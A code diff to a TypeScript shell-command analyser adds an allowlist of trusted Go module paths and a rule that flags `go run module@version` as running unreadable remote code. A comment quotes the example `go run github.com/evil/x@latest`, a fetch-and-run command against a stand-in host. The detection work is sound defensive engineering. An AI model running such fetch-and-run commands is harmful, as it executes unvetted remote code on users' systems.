@@ -394,6 +394,9 @@ const GO = wrapperGrammar([
 /** The operand that names standard input as the program (`go run -`). */
 const STDIN_OPERANDS = new Set(['-']);
 
+/** Go modules served by the language's own project or its best-known tools. */
+const GO_VOUCHED = /^(golang\.org\/x\/|honnef\.co\/go\/tools\/|github\.com\/golangci\/golangci-lint\/|github\.com\/go-delve\/delve\/|github\.com\/air-verse\/air|github\.com\/sqlc-dev\/sqlc\/|github\.com\/pressly\/goose\/|github\.com\/golang-migrate\/migrate\/|gotest\.tools\/|mvdan\.cc\/gofumpt)/;
+
 function goPeel(args: ArgWord[]): Peeled {
   const read = readWrapper(args, GO);
   // `go build`, `go vet` …: go itself (its handler reads what `go build -o` makes).
@@ -402,6 +405,10 @@ function goPeel(args: ArgWord[]): Peeled {
   if (!target) return { argv: [], none: true };
   // `go run main.go`, `go run -`: source the handler reads; a package (`./cmd/wipe`) is the workspace's compiled code.
   if (target.text.endsWith('.go') || STDIN_OPERANDS.has(target.text)) return { argv: [], notWrapping: true };
+  // `go run github.com/evil/x@latest` (round 8): a module fetched by its path and built now, read by nobody; the Go project's own and the best-known linters aside.
+  if (!target.dynamic && /^[\w-]+(\.[\w-]+)+\/\S+@\S+$/.test(target.text) && !GO_VOUCHED.test(target.text)) {
+    return { argv: [], unknown: `go run fetches the module ${target.text.slice(0, 120)} and runs it: code from that address, which cannot be read before it runs` };
+  }
   // `go run main.go util.go args`: every leading .go file is the program; the first later word begins its arguments.
   let i = read.index;
   while (i + 1 < args.length && args[i + 1]!.text.endsWith('.go') && target.text.endsWith('.go')) i++;
